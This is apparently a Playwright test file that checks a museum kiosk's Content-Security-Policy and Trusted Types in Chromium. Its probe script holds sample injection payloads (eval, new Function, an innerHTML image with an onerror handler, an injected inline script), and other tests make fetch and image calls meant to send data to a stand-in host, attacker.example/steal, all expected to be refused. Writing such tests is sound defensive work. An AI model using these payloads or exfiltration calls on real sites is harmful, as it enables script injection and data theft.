// The kiosk's Content-Security-Policy in Chromium (docs/design.md §10): the whole app runs under
// it without one violation, and what it forbids is refused and reported: an inline script in the
// page, code from strings and HTML from a plain string even in a script of the kiosk's origin,
// connections and images to an origin the kiosk-config does not name.

import { expect, test, type Page } from '@playwright/test';
import { openTechnicianPanel, waitForContentVersion } from './kiosk-page.ts';
import { recordPolicyViolations } from './policy-violations.ts';
import { resetFeed } from './publish-feed.ts';
import { TOUR } from './screen-tour.ts';

const DEMO_PIN = '2468';
/** Reserved for documentation (RFC 6761), so nothing could answer even if the policy let it through. */
const OTHER_ORIGIN = 'https://attacker.example';

test.beforeEach(() => resetFeed());

declare global {
  interface Window {
    __xss?: string;
    __probe?: Record<string, string>;
  }
}

/** Console lines in which Chromium says it refused something for the policy or for Trusted Types. */
function watchRefusals(page: Page): string[] {
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Trusted ?Type/i.test(message.text())) refusals.push(message.text());
  });
  return refusals;
}

test('the whole kiosk runs under its policy without a single violation', async ({ page }) => {
  const refusals = watchRefusals(page);
  const violations = await recordPolicyViolations(page);
  await page.goto('/');
  await waitForContentVersion(page, 1);

  for (const stop of TOUR) await stop.open(page);
  // An audio testimony played (Howler, blob: media), the video testimony with its captions.
  await page.locator('[data-nav="testimonies"]').click();
  await page.locator('[data-testid="testimony-item"]').first().click();
  await page.locator('[data-testid="play"]').click();
  await expect(page.locator('[data-testid="transcript-line"][aria-current="true"]')).toBeVisible();
  await page.locator('[data-nav="testimonies"]').click();
  await page.locator('[data-testid="testimony-item"][data-testimony-id="t04-son-volga-wagon"]').click();
  await expect(page.locator('[data-testid="video"]')).toBeVisible();
  // The image viewer, on the speaker's portrait.
  await page.locator('[data-testid="testimony-portrait"]').click();
  await expect(page.locator('[data-testid="image-viewer"]')).toBeVisible();
  await page.locator('[data-testid="viewer-close"]').click();
  // The panel, and the Remembrance roll it previews (names read from stored shards).
  await page.locator('[data-nav="home"]').click();
  await openTechnicianPanel(page, DEMO_PIN);
  await page.locator('[data-testid="schedule-preview"][data-mode="remembrance"]').click();
  await expect(page.locator('[data-testid="remembrance-name"]').first()).toBeVisible();

  expect(await violations()).toEqual([]);
  expect(refusals).toEqual([]);
});

/**
 * Served as /policy-probe.js, a script of the kiosk's own origin: what it tries is what an
 * attacker's code would, and each attempt's error name lands in window.__probe.
 */
const PROBE_SCRIPT = `
  const attempt = (run) => { try { run(); return 'ran'; } catch (error) { return error.name; } };
  const host = document.createElement('div');
  document.body.append(host);
  window.__probe = {
    eval: attempt(() => eval("window.__xss = 'eval'")),
    function: attempt(() => new Function("window.__xss = 'Function'")()),
    innerHTML: attempt(() => { host.innerHTML = '<img src="x" onerror="window.__xss = \\'innerHTML\\'">'; }),
    script: attempt(() => {
      const script = document.createElement('script');
      script.textContent = "window.__xss = 'script element'";
      document.head.append(script);
    }),
    worker: attempt(() => new Worker('${OTHER_ORIGIN}/worker.js')),
  };
`;

test('an inline script in the page is refused, and no script may eval or write HTML from a string', async ({ page }) => {
  const violations = await recordPolicyViolations(page);
  // As if a host or a proxy slipped scripts into the page: the policy comes first and holds.
  await page.route('**/*', async (route) => {
    const url = new URL(route.request().url());
    if (url.pathname === '/policy-probe.js') return route.fulfill({ contentType: 'text/javascript', body: PROBE_SCRIPT });
    if (route.request().resourceType() !== 'document') return route.continue();
    const response = await route.fetch();
    const html = (await response.text())
      .replace('</head>', "<script>window.__xss = 'inline script';</script></head>")
      .replace('</body>', '<script src="/policy-probe.js"></script></body>');
    await route.fulfill({ response, body: html });
  });
  await page.goto('/');
  await waitForContentVersion(page, 1);

  expect(await page.evaluate(() => window.__probe)).toEqual({
    eval: 'EvalError',
    function: 'EvalError',
    innerHTML: 'TypeError',
    script: 'TypeError',
    worker: 'TypeError',
  });
  expect(await page.evaluate(() => window.__xss)).toBeUndefined();
  const reported = (await violations()).map(({ directive, blocked }) => `${directive} ${blocked}`);
  expect(reported).toContain('script-src-elem inline');
  expect(reported).toContain('require-trusted-types-for trusted-types-sink');
});

test('connections and images reach only the origins the kiosk-config names, and a refusal is logged', async ({ page }) => {
  const violations = await recordPolicyViolations(page);
  // This config names a heartbeat on another loopback port: that origin is allowed, no other.
  await page.goto('/?kiosk=heartbeat-json');
  await waitForContentVersion(page, 1);

  const heartbeatOrigin = 'http://127.0.0.1:4369';
  const outcomes = await page.evaluate(
    async ([other, heartbeat]) => {
      const reach = (url: string) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => 'answered',
          (error: Error) => error.name,
        );
      const image = new Image();
      const loaded = new Promise((resolve) => {
        image.onerror = () => resolve('refused');
        image.onload = () => resolve('loaded');
      });
      image.src = `${other}/pixel.png?stolen=record`;
      return { other: await reach(`${other}/steal`), heartbeat: await reach(`${heartbeat}/heartbeat`), image: await loaded };
    },
    [OTHER_ORIGIN, heartbeatOrigin],
  );

  // Nothing listens on the heartbeat's port here: the request went out, and failed on the network.
  expect(outcomes).toEqual({ other: 'TypeError', heartbeat: 'TypeError', image: 'refused' });
  const blocked = (await violations()).map(({ directive, blocked }) => `${directive} ${blocked}`);
  expect(blocked).toContain(`connect-src ${OTHER_ORIGIN}/steal`);
  expect(blocked).toContain(`img-src ${OTHER_ORIGIN}/pixel.png?stolen=record`);
  expect(blocked.filter((line) => line.includes(heartbeatOrigin))).toEqual([]);

  await openTechnicianPanel(page, DEMO_PIN);
  const logged = page.locator('[data-testid="tech-log"] li[data-code="csp-violation"]');
  await expect(logged.filter({ hasText: `connect-src refused ${OTHER_ORIGIN}/steal` })).toHaveCount(1);
});

test('the servers say who may frame the kiosk: itself and the Curator Studio preview', async ({ request }) => {
  const response = await request.get('/');
  expect(response.headers()['content-security-policy']).toBe(
    "frame-ancestors 'self' http://localhost:4174 http://127.0.0.1:4174",
  );
});
